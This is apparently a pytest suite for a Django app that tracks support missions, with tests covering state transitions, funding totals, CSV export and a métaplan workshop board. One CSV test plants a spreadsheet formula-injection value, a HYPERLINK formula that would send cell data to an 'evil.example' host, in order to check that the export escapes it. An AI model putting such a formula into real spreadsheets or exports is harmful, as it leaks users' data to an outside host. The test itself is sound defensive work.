"""Mission state transitions, funding totals, and the métaplan board's saving rules."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from accompagnements import selectors, services
from accompagnements.models import MetaplanCard, MissionState, SupportMission


def test_a_mission_walks_the_whole_workflow(mission):
    for state in ["proposal", "signed", "in_progress", "delivered", "closed"]:
        mission = services.change_state(mission, state)
    assert mission.state == MissionState.CLOSED
    assert mission.state_changed_at is not None


@pytest.mark.parametrize(
    ("path", "refused"),
    [
        ([], "signed"),  # a lead cannot be signed before a proposal
        (["proposal", "signed"], "delivered"),  # nor delivered before it is in progress
        (["proposal", "signed", "in_progress", "delivered"], "dropped"),
        (["dropped"], "proposal"),  # a dropped mission stays dropped
        ([], "finished"),  # not a state at all
    ],
)
def test_invalid_transitions_are_refused_with_a_sentence(mission, path, refused):
    for state in path:
        mission = services.change_state(mission, state)
    before = mission.state
    with pytest.raises(services.MissionError) as error:
        services.change_state(mission, refused)
    assert str(error.value)
    assert SupportMission.objects.get(pk=mission.pk).state == before


def test_invalid_transition_through_the_page_keeps_the_state(client, users, mission):
    client.force_login(users["staff"])
    response = client.post(
        reverse("accompagnements:state", args=[mission.pk]), {"state": "closed"}, follow=True
    )
    assert SupportMission.objects.get(pk=mission.pk).state == MissionState.LEAD
    assert "cannot go from" in response.content.decode() or "ne peut pas" in str(
        list(response.context["messages"])
    )


def test_htmx_state_change_answers_the_state_fragment(client, users, mission):
    client.force_login(users["staff"])
    response = client.post(
        reverse("accompagnements:state", args=[mission.pk]),
        {"state": "proposal"},
        HTTP_HX_REQUEST="true",
    )
    assert response.status_code == 200
    assert 'id="mission-state"' in response.content.decode()
    assert SupportMission.objects.get(pk=mission.pk).state == MissionState.PROPOSAL


def test_funding_total_is_the_sum_of_the_lines(mission):
    lines = list(mission.funding_lines.values_list("amount", flat=True))
    assert services.funding_total(mission) == sum(lines) == Decimal("20000.50")
    annotated = SupportMission.objects.with_funding_total().get(pk=mission.pk)
    assert annotated.funding_total == Decimal("20000.50")


def test_dashboard_sums_funding_per_funder_and_per_year(mission):
    data = selectors.dashboard()
    assert sum(row["value"] for row in data["funding_per_funder"]) == pytest.approx(20000.50)
    assert {row["label"]: row["value"] for row in data["funding_per_year"]} == {
        "2022": 12000.50,
        "2023": 8000.0,
    }
    # The labels are the French ones the dashboard shows ("piste" is MissionState.LEAD).
    assert {r["label"]: r["value"] for r in data["missions_per_state"]}["piste"] == 1


def test_funding_csv_has_one_row_per_line_with_the_same_total(client, users, mission):
    client.force_login(users["staff"])
    response = client.get(reverse("accompagnements:funding-csv"))
    rows = response.content.decode("utf-8-sig").strip().splitlines()
    assert len(rows) == 1 + mission.funding_lines.count()
    amounts = [Decimal(row.split(",")[4]) for row in rows[1:]]
    assert sum(amounts) == services.funding_total(mission)


def test_funding_csv_quotes_text_a_spreadsheet_would_run(client, users, mission, organisations):
    link = '=HYPERLINK("https://evil.example/?d="&A1,"Détails")'
    SupportMission.objects.filter(pk=mission.pk).update(title=link)
    organisations["dreets"].name = "@SUM(1+1)"
    organisations["dreets"].save()
    client.force_login(users["staff"])
    response = client.get(reverse("accompagnements:funding-csv"))
    text = response.content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert {row["mission"] for row in rows} == {"'" + link}
    assert "'@SUM(1+1)" in {row["funder"] for row in rows}
    assert {row["amount"] for row in rows} == {"12000.50", "8000.00"}  # numbers stay numbers


def test_board_arrangement_is_saved_in_order(workshop):
    cards = list(workshop.cards.order_by("pk"))
    values = services.add_cluster(workshop, "Valeurs")
    services.save_arrangement(
        workshop, {"clusters": {str(values.pk): [cards[2].pk, cards[0].pk]}, "loose": [cards[1].pk]}
    )
    loose, clusters = selectors.metaplan_board(workshop)
    assert [c.text for c in clusters[0][1]] == ["Achats locaux", "Charte des valeurs"]
    assert [c.text for c in loose] == ["Adhérents au CA"]


def test_board_refuses_cards_of_another_workshop(workshop, mission):
    other = mission.workshops.create(title="Autre", date=workshop.date, method="metaplan")
    foreign = services.add_cards(other, "Ailleurs")[0]
    with pytest.raises(services.MissionError):
        services.save_arrangement(workshop, {"clusters": {}, "loose": [foreign.pk]})
    assert MetaplanCard.objects.get(pk=foreign.pk).workshop == other


def test_backcasting_step_must_be_inside_the_timeline(workshop):
    services.add_step(workshop, 2026, "Charte coopérative")
    with pytest.raises(services.MissionError):
        services.add_step(workshop, 2040, "Trop tard")
    assert [year for year, steps in selectors.timeline(workshop) if steps] == [2026]
